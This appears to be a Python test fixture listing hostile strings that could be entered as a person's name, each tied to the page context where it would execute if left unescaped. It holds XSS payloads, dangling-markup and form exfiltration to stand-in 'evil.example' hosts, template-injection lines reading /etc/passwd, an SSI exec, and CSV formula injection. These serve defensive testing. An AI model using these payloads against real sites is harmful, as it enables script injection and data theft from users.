# ruff: noqa: E501 a row is a line
"""What people may be called, and worse: one class of hostile text per row, and where it would work.

``{n}`` is the row's number. A row with a stage works there when nothing is escaped, which is shown;
what is meant for another interpreter than the browser has none, and is still text on every page.
"""

from dataclasses import dataclass

PAGE = "<!doctype html><meta charset=utf-8><body>{}</body>"
SWALLOWED = PAGE + "<p title=''>"
SEEN = "style=display:block;content-visibility:auto oncontentvisibilityautostatechange=ran({n})"
QUOTED, APOSTROPHES, BARE = ('<input value="{}">', "<input value='{}'>", "<input value={}>")
LINK = '<a id=it href="{}">x</a><script>document.getElementById("it").click()</script>'
AREA, TITLE = "<textarea>{}</textarea>", "<title>{}</title>"
IN_APOSTROPHES, IN_QUOTES = "<script>var x = '{}'</script>", '<script>var x = "{}"</script>'
IN_BACKTICKS, IN_SCRIPT = "<script>var x = `{}`</script>", "<script>var x = 1; /* {} */</script>"
STYLE, COMMENT = "<style>a {{ color: {} }}</style>", "<!-- {} -->"
SECTION = "<svg><![CDATA[{}]]></svg>"
DECODED = "<p id=it></p><script>document.getElementById('it').innerHTML = {decode}</script>"


@dataclass(frozen=True)
class Row:
    """A class of hostile text."""

    kind: str
    source: str
    text: str
    stage: str = PAGE


HTML, MUTATION, SERVER = "WHATWG HTML", "mutation XSS, Heiderich 2013", ""
ROWS = (
    Row("script element", HTML + " 4.12.1", "<script>ran({n})</script>"),
    Row("handler of an image that fails", HTML + " 8.1.8", "<img src=x onerror=ran({n})>"),
    Row("handler of an SVG image", "SVG 2, 15", "<svg onload=ran({n})>"),
    Row("script in SVG", "SVG 2, 15.1", "<svg><script>ran({n})</script></svg>"),
    Row("SVG animation event", "SVG Animations 2", "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>"),
    Row("handler of a second body", HTML + " 13.2.6.4.7", "<body onload=ran({n})>"),
    Row("toggle event", HTML + " 4.11.1", "<details open ontoggle=ran({n})>"),
    Row("focus taken by itself", HTML + " 6.6.7", "<input autofocus onfocus=ran({n})>"),
    Row("event of an element nobody knows", "CSS Containment 2", f"<x-y {SEEN}>"),
    Row("media source that fails", HTML + " 4.8.11", "<video><source onerror=ran({n})></video>"),
    Row("animation event", "CSS Animations 1", "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart=ran({n})>"),
    Row("document in a frame", HTML + " 4.8.5 srcdoc", "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>"),
    Row("script address of a frame", "RFC 2397-like javascript:", "<iframe src=javascript:parent.ran({n})></iframe>"),
    Row("end of a quoted attribute", "OWASP XSS rule 2", '"><img src=x onerror=ran({n})>', QUOTED),
    Row("end of an attribute in apostrophes", "OWASP XSS rule 2", "'><img src=x onerror=ran({n})>", APOSTROPHES),
    Row("another attribute after a quote", "OWASP XSS rule 2", f'" {SEEN} x="', QUOTED),
    Row("another attribute after an apostrophe", "OWASP XSS rule 2", f"' {SEEN} x='", APOSTROPHES),
    Row("another attribute without any quote", "OWASP XSS rule 2", f"x {SEEN}", BARE),
    Row("end of a text area", HTML + " 13.1.2.2", "</textarea><img src=x onerror=ran({n})>", AREA),
    Row("end of a title", HTML + " 13.1.2.2", "</title><img src=x onerror=ran({n})>", TITLE),
    Row("end of a comment", HTML + " 13.1.6", "--><img src=x onerror=ran({n})>", COMMENT),
    Row("wrong end of a comment", HTML + " 13.2.5.51", "--!><img src=x onerror=ran({n})>", COMMENT),
    Row("end of a style", HTML + " 13.1.2.1", "</style><img src=x onerror=ran({n})>", STYLE),
    Row("end of a CDATA section", HTML + " 13.1.5", "]]><img src=x onerror=ran({n})>", SECTION),
    Row("end of a script", HTML + " 4.12.1.3", "</script><script>ran({n})</script>", IN_SCRIPT),
    Row("end of a string in apostrophes", "OWASP XSS rule 3", "';ran({n})//", IN_APOSTROPHES),
    Row("end of a string in quotes", "OWASP XSS rule 3", '";ran({n})//', IN_QUOTES),
    Row("expression in a template literal", "ECMA-262 13.2.8", "${{ran({n})}}", IN_BACKTICKS),
    Row("escaped apostrophe", "OWASP XSS rule 3", "\\';ran({n})//", "<script>var x = '\\{}'</script>"),
    Row("script address of a link", "OWASP XSS rule 5", "javascript:ran({n})", LINK),
    Row("script address in capitals after a blank", "URL Standard 4.4", " JaVaScRiPt:ran({n})", LINK),
    Row("script address with a tab", "URL Standard 4.4", "java\tscript:ran({n})", LINK),
    Row("element names in both cases, slash", HTML + " 13.2.5.6", "<ScRiPt/x>ran({n})</sCrIpT>"),
    Row("element that is not closed", HTML + " 13.2.5", "<img src=x onerror=ran({n}) x="),
    Row("doubled signs", "filter evasion", "<<img src=x onerror=ran({n})>>"),
    Row("noscript and a title", MUTATION, '<noscript><p title="</noscript><img src=x onerror=ran({n})>">'),
    Row("polyglot of many contexts", "0xsobky 2018", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran({n}) )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=ran({n})//>"),
    Row("entities that are decoded once too often", "CWE-174", "&lt;img src=x onerror=ran({n})&gt;", DECODED.replace("{decode}", "'{}'.replace('&lt;', '<').replace('&gt;', '>')")),
    Row("percent signs that are decoded", "CWE-177", "%3Cimg%20src=x%20onerror=ran({n})%3E", DECODED.replace("{decode}", "decodeURIComponent('{}')")),
    Row("escapes of JSON in a script", "RFC 8259 7", "\\u003cimg src=x onerror=ran({n})\\u003e", DECODED.replace("{decode}", "'{}'")),
    Row("full-width signs that are folded", "UTS 15, NFKC", "＜img src=x onerror=ran({n})＞", DECODED.replace("{decode}", "'{}'.normalize('NFKC')")),
    Row("address of another base", HTML + " 4.2.3", "<base href=http://evil{n}.example/><img src=x>"),
    Row("refresh to elsewhere", HTML + " 4.2.5.3", "<meta http-equiv=refresh content='0;url=http://evil{n}.example/'>"),
    Row("markup that swallows what follows", "dangling markup, Zalewski 2011", "<img src='http://evil{n}.example/?", SWALLOWED),
    Row("style sheet of somebody else", "CSS injection", "<link rel=stylesheet href=http://evil{n}.example/x>"),
    Row("style that imports", "CSS injection", "<style>@import 'http://evil{n}.example/x';</style>"),
    Row("form that sends by itself", "clickless form", "<form id=f{n} action=http://evil{n}.example></form>", PAGE + "<script>document.forms[0].submit()</script>"),
    Row("plug-in content", HTML + " 4.8.6", "<object data=http://evil{n}.example/x></object>"),
    Row("name that hides another", "DOM clobbering", "<a id=ran name=ran>{n}</a>", SERVER),
    Row("attributes of htmx", "htmx 4", "<i hx-get=/evil hx-trigger=load hx-on:load=ran({n})></i>", SERVER),
    Row("expression of a page template", "SSTI, Jinja", "{{{{7*7}}}}{{% include '/etc/passwd' %}}", SERVER),
    Row("attributes in a format string", "Python str.format", "{{0.__class__.__init__.__globals__}}", SERVER),
    Row("code of a form template", "typst", '#read("/etc/passwd") #eval("1+1") $x$ <a> @b', SERVER),
    Row("formula in a table", "CSV injection, CWE-1236", "=HYPERLINK(\"http://evil{n}.example\",\"x\")", SERVER),
    Row("directive of a server or a cache", "SSI, ESI", "<!--#exec cmd=id--><esi:include src=http://evil{n}.example/>", SERVER),
    Row("words that run backwards", "Trojan Source, CVE-2021-42574", "\u202ecod.exe\u2066", SERVER),
    Row("line that begins a header", "CWE-93", "x%0d%0aBcc: evil@evil{n}.example", SERVER),
)  # fmt: skip
TEXTS = tuple(row.text.format(n=number) for number, row in enumerate(ROWS))
ALL = " \u00b7 ".join(TEXTS)
